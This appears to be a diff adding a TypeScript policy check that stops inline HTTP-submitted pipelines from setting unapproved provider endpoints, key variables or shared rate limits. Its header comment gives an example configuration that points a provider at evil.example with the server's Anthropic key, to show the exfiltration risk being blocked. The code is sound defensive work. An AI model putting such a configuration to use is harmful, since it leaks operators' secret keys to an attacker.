@@ -1,0 +1,98 @@
+// What a pipeline sent inline over HTTP may say about providers. Its author holds a token, not the
+// server's keys: left alone, `providers: { x: { base_url: https://evil.example, api_key_env:
+// ANTHROPIC_API_KEY } }` would send the key to an address of the author's choosing (any variable
+// of the server's environment, for that matter), and `max_concurrency: 1` on `anthropic` would set
+// the gate every run of the server shares. So an inline pipeline may name a provider's type and
+// prices (its own run's bill), but an endpoint only from the operator's allow-list, a key only
+// from the vendor's standard variables or the operator's list, and no gate limits at all. Files
+// under `--root` are the operator's and are not checked; `--trust-inline-providers` lifts it all.
+import type { LoadedPipeline } from '../config/loader.js';
+import type { DocPath } from '../config/path.js';
+import type { Pipeline, ProviderConfig, Step } from '../config/schema.js';
+import { PROVIDER_ENV, providerType } from '../providers/settings.js';
+import { HttpError } from './http-error.js';
+
+export interface InlineProviderPolicy {
+  /** Base URLs an inline pipeline may point a provider at (compared normalized). */
+  allowBaseUrls?: readonly string[];
+  /** Variables an inline pipeline may name in `api_key_env`, beyond the vendors' standard ones. */
+  allowKeyEnv?: readonly string[];
+  /** Inline pipelines may configure providers as freely as files (a server whose token holders hold the keys). */
+  trust?: boolean;
+}
+
+/** Settings of a provider that shape the gate every run of the server shares. */
+const GATE_FIELDS = ['max_concurrency', 'max_queue', 'timeout', 'circuit_breaker', 'rate_limit'] as const;
+
+/** Throws a 403 naming the first setting of an inline pipeline's `providers:` the policy forbids. */
+export function checkInlineProviders(loaded: LoadedPipeline, policy: InlineProviderPolicy = {}): void {
+  if (policy.trust) return;
+  const allowedUrls = new Set((policy.allowBaseUrls ?? []).map(normalizeUrl));
+  const allowedVars = new Set(policy.allowKeyEnv ?? []);
+  eachInlinePipeline(loaded.pipeline, [], (pipeline, at) => {
+    for (const [name, config] of Object.entries(pipeline.providers ?? {})) {
+      const path = [...at, 'providers', name];
+      const refuse = (field: string, message: string, hint: string): never => {
+        const { line, col } = loaded.locate([...path, field]);
+        throw new HttpError(403, `${loaded.file}:${line}:${col}: ${path.join('.')}.${field}: ${message}`, hint);
+      };
+      if (config.base_url !== undefined && !allowedUrls.has(normalizeUrl(config.base_url))) {
+        refuse(
+          'base_url',
+          `this server does not let an inline pipeline send calls to ${config.base_url}`,
+          'the operator can allow it (`elexirion serve --allow-base-url URL`), or run a pipeline file under --root',
+        );
+      }
+      if (config.api_key_env !== undefined && !standardKeyVariables(name, config).includes(config.api_key_env)) {
+        if (!allowedVars.has(config.api_key_env)) {
+          refuse(
+            'api_key_env',
+            `this server does not let an inline pipeline read ${config.api_key_env} as a key`,
+            'drop api_key_env to use the vendor’s standard variable, ask the operator to allow it (`elexirion serve --allow-key-env NAME`), or run a pipeline file under --root',
+          );
+        }
+      }
+      for (const field of GATE_FIELDS) {
+        if (config[field] !== undefined) {
+          refuse(
+            field,
+            `the limits of a provider are the server's: every run shares its gate, so an inline pipeline cannot set them`,
+            `remove providers.${name}.${field}; the operator sets limits in a pipeline file under --root`,
+          );
+        }
+      }
+    }
+  });
+}
+
+/** The standard key variables of the provider's type (none for the mock, or a type it cannot tell). */
+function standardKeyVariables(name: string, config: ProviderConfig): readonly string[] {
+  try {
+    const type = providerType(name, config);
+    return type === 'mock' ? [] : PROVIDER_ENV[type].keyVariables;
+  } catch {
+    return []; // an unknown provider: the loader has refused the pipeline already
+  }
+}
+
+/** Scheme and host lower-cased, default port dropped, no trailing slash: what `URL` makes of it. */
+export function normalizeUrl(url: string): string {
+  try {
+    return new URL(url).href.replace(/\/+$/, '');
+  } catch {
+    return url;
+  }
+}
+
+/** The pipeline and every pipeline written inside it (`pipeline:` steps, in `parallel` groups too). */
+function eachInlinePipeline(pipeline: Pipeline, at: DocPath, visit: (p: Pipeline, at: DocPath) => void): void {
+  visit(pipeline, at);
+  const steps = (list: readonly Step[], path: DocPath): void => {
+    list.forEach((step, i) => {
+      const here = [...path, i];
+      if (step.type === 'parallel') steps(step.steps, [...here, 'steps']);
+      if (step.type === 'pipeline' && step.pipeline) eachInlinePipeline(step.pipeline, [...here, 'pipeline'], visit);
+    });
+  };
+  steps(pipeline.steps, [...at, 'steps']);
+}
